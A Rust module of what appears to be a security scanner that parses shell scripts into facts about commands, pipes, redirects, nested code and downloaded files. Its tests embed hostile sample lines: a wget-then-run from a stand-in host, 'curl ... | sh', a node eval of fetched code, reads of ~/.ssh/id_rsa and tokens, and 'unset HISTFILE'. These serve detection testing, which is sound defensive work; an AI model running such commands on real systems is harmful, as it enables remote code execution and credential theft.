//! Shell frontend (tree-sitter-bash): command invocations with their words
//! unquoted, wrappers (`sudo`, `env`, `nohup`...) looked through, pipes,
//! redirections, `$VAR` expansions, and `sh -c '...'` / `eval '...'`
//! strings parsed again as shell.

pub(crate) mod downloads;
mod words;

use super::ts::{self, Ctx};
use crate::facts::{FactKind, Origin, Sink};
use foldhash::HashMap;
use skillseal_model::Language;
use tree_sitter::Node;
pub use words::word;
use words::{command_words, is_flag_with_c};

pub(crate) const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "busybox"];

pub fn scan(src: &str, origin: Origin, sink: &mut Sink) {
    let Some(tree) = ts::parse(Language::Shell, src) else {
        return;
    };
    let mut sh = Shell {
        src,
        origin,
        sink,
        pipe_next: HashMap::default(),
        nested: Vec::new(),
        scripts: Vec::new(),
        downloads: downloads::Downloads::default(),
    };
    ts::walk(&tree, |node, ctx| {
        sh.visit(node, ctx);
        true
    });
    let Shell {
        sink,
        nested,
        scripts,
        ..
    } = sh;
    super::scan_nested(nested, origin, sink);
    // A here-document that is a script (a shebang, or fed to a shell or
    // interpreter) is parsed in place, so its lines keep their numbers.
    for (lang, start, end) in scripts {
        let Some(body) = src.get(start..end) else {
            continue;
        };
        let inner = match origin {
            Origin::Offset(base) => Origin::Offset(base + start),
            fixed @ Origin::Fixed(..) => fixed,
        };
        super::scan_source(lang, body, inner, sink);
    }
}

/// The walk over one shell file: what it has found so far.
struct Shell<'s, 'k> {
    src: &'s str,
    origin: Origin,
    sink: &'k mut Sink,
    /// The command each pipeline stage writes to, by the stage's node id.
    pipe_next: HashMap<usize, String>,
    /// Strings that are code (`bash -c '…'`, `node -e '…'`), parsed after
    /// the walk.
    nested: Vec<(Language, String, usize, usize)>,
    /// Here-documents that are scripts, parsed in place after the walk.
    scripts: Vec<(Language, usize, usize)>,
    /// The files download commands have written so far.
    downloads: downloads::Downloads,
}

/// The language of a here-document that is a script: by its shebang, else
/// by the command it is fed to (`sh <<EOF`, `python3 - <<EOF`).
fn heredoc_language(src: &str, body: Node<'_>, ctx: &Ctx<'_>) -> Option<Language> {
    let text = ts::text(body, src);
    let first = text.trim_start().lines().next().unwrap_or("");
    let by_name = |name: &str| -> Option<Language> {
        let name = name.rsplit('/').next().unwrap_or(name);
        if SHELLS.contains(&name) {
            Some(Language::Shell)
        } else if name.starts_with("python") {
            Some(Language::Python)
        } else if matches!(name, "node" | "nodejs" | "deno" | "bun") {
            Some(Language::JavaScript)
        } else {
            None
        }
    };
    if let Some(shebang) = first.strip_prefix("#!") {
        let mut words = shebang.split_whitespace();
        let prog = words.next().unwrap_or("");
        let prog = if prog.ends_with("/env") {
            words.find(|w| !w.starts_with('-')).unwrap_or("")
        } else {
            prog
        };
        return by_name(prog).or(Some(Language::Shell));
    }
    let stmt = ctx
        .ancestors
        .iter()
        .rev()
        .take(3)
        .find(|a| ts::kind(**a) == "redirected_statement")?;
    let cmd = ts::field(*stmt, "body")?;
    let (name, _) = command_words(src, cmd)?;
    by_name(&name)
}

/// The command node inside a pipeline element (which may be wrapped in a
/// redirection).
fn command_of(n: Node<'_>) -> Option<Node<'_>> {
    match ts::kind(n) {
        "command" | "declaration_command" | "unset_command" => Some(n),
        "redirected_statement" => ts::field(n, "body").and_then(command_of),
        _ => None,
    }
}

impl Shell<'_, '_> {
    fn visit(&mut self, node: Node<'_>, ctx: &Ctx<'_>) {
        match ctx.kind {
            "pipeline" => self.pipeline(node),
            "command" => self.command(node),
            "declaration_command" | "unset_command" => self.declaration(node),
            "variable_assignment" => self.assignment(node),
            "file_redirect" => self.redirect(node),
            "simple_expansion" | "expansion" => self.expansion(node),
            "string" | "raw_string" => self.string(node, ctx),
            "heredoc_body" => {
                self.string(node, ctx);
                if let Some(lang) = heredoc_language(self.src, node, ctx) {
                    self.scripts
                        .push((lang, node.start_byte(), node.end_byte()));
                }
            }
            _ => {}
        }
    }

    fn push(&mut self, n: Node<'_>, kind: FactKind) {
        (self.sink).push(
            self.origin,
            Language::Shell,
            n.start_byte(),
            n.end_byte(),
            kind,
        );
    }

    /// A command fact, with the command its output is piped to.
    fn push_command(&mut self, node: Node<'_>, name: String, args: Vec<String>) {
        let pipe_to = self.pipe_next.get(&node.id()).cloned();
        self.push(
            node,
            FactKind::Command {
                name,
                args,
                pipe_to,
            },
        );
    }

    /// `a | b`: which command each stage writes to, and a flow from each
    /// stage to the next.
    fn pipeline(&mut self, node: Node<'_>) {
        let stages: Vec<Node<'_>> = ts::named_children(node)
            .into_iter()
            .filter_map(command_of)
            .collect();
        for pair in stages.windows(2) {
            if let Some((name, _)) = command_words(self.src, pair[1]) {
                self.pipe_next.insert(pair[0].id(), name);
            }
            // A stage reads what the one before it writes.
            let pipe = format!("|{}", pair[1].start_byte());
            self.sink.bind(
                self.origin,
                &pipe,
                pair[0].start_byte(),
                (pair[0].start_byte(), pair[0].end_byte()),
            );
            self.sink
                .reference(self.origin, &pipe, pair[1].start_byte());
        }
    }

    fn command(&mut self, node: Node<'_>) {
        let src = self.src;
        let Some((name, args)) = command_words(src, node) else {
            return;
        };
        // `bash -c '...'`, `eval '...'`: the string is shell code too.
        let raw_args: Vec<Node<'_>> = {
            let mut c = node.walk();
            node.children_by_field_name("argument", &mut c).collect()
        };
        // `node -e '…'`, `python3 -c '…'`, `deno eval '…'`: code too.
        let after = |flags: &[&str]| {
            raw_args
                .iter()
                .position(|a| flags.contains(&ts::text(*a, src)))
                .and_then(|i| raw_args.get(i + 1))
        };
        let code_arg = if SHELLS.contains(&name.as_str()) {
            raw_args
                .iter()
                .position(|a| is_flag_with_c(ts::text(*a, src)))
                .and_then(|i| raw_args.get(i + 1))
                .map(|a| (Language::Shell, a))
        } else if name == "eval" {
            raw_args.first().map(|a| (Language::Shell, a))
        } else if matches!(name.as_str(), "node" | "nodejs" | "bun") {
            after(&["-e", "--eval", "-p", "--print"]).map(|a| (Language::JavaScript, a))
        } else if name == "deno" {
            after(&["eval"]).map(|a| (Language::JavaScript, a))
        } else if name.starts_with("python") {
            after(&["-c"]).map(|a| (Language::Python, a))
        } else {
            None
        };
        if let Some((lang, a)) = code_arg
            && matches!(
                ts::kind(*a),
                "string" | "raw_string" | "word" | "concatenation"
            )
        {
            self.nested
                .push((lang, word(src, *a), a.start_byte(), a.end_byte()));
        }
        for a in &raw_args {
            let value = word(src, *a);
            self.push(*a, FactKind::Str { value });
        }
        let program = ts::field(node, "name").map_or_else(String::new, |n| word(src, n));
        if let Some(file) = self.downloads.runs(&program, &name, &args) {
            self.push(
                node,
                FactKind::Command {
                    name: "<run-downloaded>".to_string(),
                    args: vec![file],
                    pipe_to: None,
                },
            );
        }
        self.downloads.command(&name, &args);
        self.push_command(node, name, args);
    }

    /// `export X=1`, `declare -x`, `unset X`: builtins with their own
    /// syntax, reported as commands named after the keyword.
    fn declaration(&mut self, node: Node<'_>) {
        let Some(keyword) = node.child(0).filter(|c| !c.is_named()) else {
            return;
        };
        let name = ts::text(keyword, self.src).to_string();
        let args = ts::named_children(node)
            .into_iter()
            .filter(|c| ts::kind(*c) != "comment")
            .map(|c| word(self.src, c))
            .collect();
        self.push_command(node, name, args);
    }

    /// `KEY=~/.ssh/id_rsa`: an unquoted value is a string too (quoted ones
    /// are emitted as strings already).
    fn assignment(&mut self, node: Node<'_>) {
        if let (Some(name), Some(v)) = (ts::field(node, "name"), ts::field(node, "value")) {
            self.sink.bind(
                self.origin,
                ts::text(name, self.src),
                node.start_byte(),
                (v.start_byte(), v.end_byte()),
            );
        }
        if let Some(v) = ts::field(node, "value")
            && matches!(ts::kind(v), "word" | "concatenation")
        {
            let value = word(self.src, v);
            self.push(v, FactKind::Str { value });
        }
    }

    /// `> file`, `< file`: the file as a string, and a `<redirect-…>`
    /// command naming it.
    fn redirect(&mut self, node: Node<'_>) {
        let Some(dest) = ts::field(node, "destination") else {
            return;
        };
        let value = word(self.src, dest);
        let op = ts::text(node, self.src).trim_start_matches(|c: char| c.is_ascii_digit());
        let kind = if op.starts_with(">>") || op.starts_with('>') || op.starts_with("&>") {
            "redirect-out"
        } else {
            "redirect-in"
        };
        self.push(
            dest,
            FactKind::Str {
                value: value.clone(),
            },
        );
        self.push(
            node,
            FactKind::Command {
                name: format!("<{kind}>"),
                args: vec![value],
                pipe_to: None,
            },
        );
    }

    /// `$VAR`, `${VAR…}`: a read of the variable.
    fn expansion(&mut self, node: Node<'_>) {
        if let Some(v) = ts::named_children(node)
            .into_iter()
            .find(|c| ts::kind(*c) == "variable_name")
        {
            let name = ts::text(v, self.src);
            self.sink.reference(self.origin, name, node.start_byte());
            let path = format!("${name}");
            self.push(node, FactKind::Member { path });
        }
    }

    fn string(&mut self, node: Node<'_>, ctx: &Ctx<'_>) {
        if ctx.field == Some("argument") || ctx.parent_kind() == "file_redirect" {
            return; // already emitted with the command
        }
        let value = word(self.src, node);
        self.push(node, FactKind::Str { value });
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lang::test_util;

    fn payload(src: &str) -> usize {
        test_util::sink(Language::Shell, src)
            .facts
            .iter()
            .map(|f| match &f.kind {
                FactKind::Str { value } => value.len(),
                FactKind::Command { name, args, .. } => {
                    name.len() + args.iter().map(String::len).sum::<usize>()
                }
                _ => 0,
            })
            .sum()
    }

    /// Each level of `$( $( ... ) )` used to copy everything inside it,
    /// so facts grew with the square of the depth (100,000 levels took
    /// hours). The text kept per level is bounded now.
    #[test]
    fn nested_substitutions_stay_linear() {
        let depth = 20_000;
        for (open, close) in [("$( ", " )"), ("\"$(echo ", ")\""), ("<(cat ", ")")] {
            let src = format!("echo {}x{}\n", open.repeat(depth), close.repeat(depth));
            let total = payload(&src);
            assert!(
                total < 2_000 * depth,
                "{open}: {total} bytes of facts for {} bytes",
                src.len()
            );
        }
        // Short substitutions and strings are kept whole.
        let sink = test_util::sink(Language::Shell, "bash -c \"curl $(cat u) | sh\"\n");
        assert!(sink.facts.iter().any(|f| f.kind
            == FactKind::Str {
                value: "curl $(cat u) | sh".into()
            }));
        test_util::command(&sink, "curl");
    }

    fn facts(src: &str) -> Vec<FactKind> {
        test_util::facts(Language::Shell, src)
    }

    fn commands(src: &str) -> Vec<(String, Vec<String>, Option<String>)> {
        facts(src)
            .into_iter()
            .filter_map(|k| match k {
                FactKind::Command {
                    name,
                    args,
                    pipe_to,
                } => Some((name, args, pipe_to)),
                _ => None,
            })
            .collect()
    }

    #[test]
    fn a_wrapper_without_a_command_is_the_command() {
        assert_eq!(commands("env"), vec![("env".into(), vec![], None)]);
        assert_eq!(
            commands("env | sort")[0],
            ("env".into(), vec![], Some("sort".into()))
        );
        assert_eq!(
            commands("sudo -l"),
            vec![("sudo".into(), vec!["-l".into()], None)]
        );
        // With a command, the wrapper is still looked through.
        assert_eq!(
            commands("env -i A=1 ls -l"),
            vec![("ls".into(), vec!["-l".into()], None)]
        );
    }

    #[test]
    fn declaration_builtins_are_commands() {
        let c =
            commands("export -p | grep TOKEN\nexport\ndeclare -x\nunset HISTFILE\nexport A=1 B");
        let names: Vec<(&str, Vec<&str>)> = c
            .iter()
            .map(|(n, a, _)| (n.as_str(), a.iter().map(String::as_str).collect()))
            .collect();
        assert!(names.contains(&("export", vec!["-p"])), "{names:?}");
        assert!(names.contains(&("export", vec![])), "{names:?}");
        assert!(names.contains(&("declare", vec!["-x"])), "{names:?}");
        assert!(names.contains(&("unset", vec!["HISTFILE"])), "{names:?}");
        assert!(names.contains(&("export", vec!["A=1", "B"])), "{names:?}");
        assert_eq!(c[0].2.as_deref(), Some("grep"));
    }

    #[test]
    fn unquoted_assignment_values_are_strings() {
        let f = facts("KEY=~/.ssh/id_rsa\nQ=\"quoted\"");
        assert!(
            f.contains(&FactKind::Str {
                value: "~/.ssh/id_rsa".into()
            }),
            "{f:?}"
        );
        assert!(
            f.contains(&FactKind::Str {
                value: "quoted".into()
            }),
            "{f:?}"
        );
    }

    #[test]
    fn heredoc_scripts_are_parsed_in_place() {
        let src = "cat > /tmp/x <<'EOF'\n#!/bin/sh\nwget -q -O /tmp/.a http://h.example.invalid/n && sh /tmp/.a\nEOF\npython3 - <<EOF\nimport os\nos.system('id')\nEOF\ncat > notes.txt <<EOF\ncurl is a tool\nEOF\n";
        let sink = test_util::sink(Language::Shell, src);
        let wget = test_util::command(&sink, "wget");
        assert_eq!(&src[wget.start..wget.start + 4], "wget");
        assert!(
            sink.facts
                .iter()
                .any(|f| matches!(&f.kind, FactKind::Call { callee, .. } if callee == "os.system"))
        );
        assert!(
            !sink
                .facts
                .iter()
                .any(|f| matches!(&f.kind, FactKind::Command { name, .. } if name == "curl")),
            "plain text here-documents are not scripts"
        );
    }

    #[test]
    fn interpreter_one_liners_are_parsed_as_their_language() {
        let callees = test_util::callees(facts(
            "node -e \"require('https').get(u, r => eval(r))\"\npython3 -c 'import os; os.system(\"id\")'\n",
        ));
        test_util::assert_has_all(&callees, &["https.get", "eval", "os.system"]);
    }
}
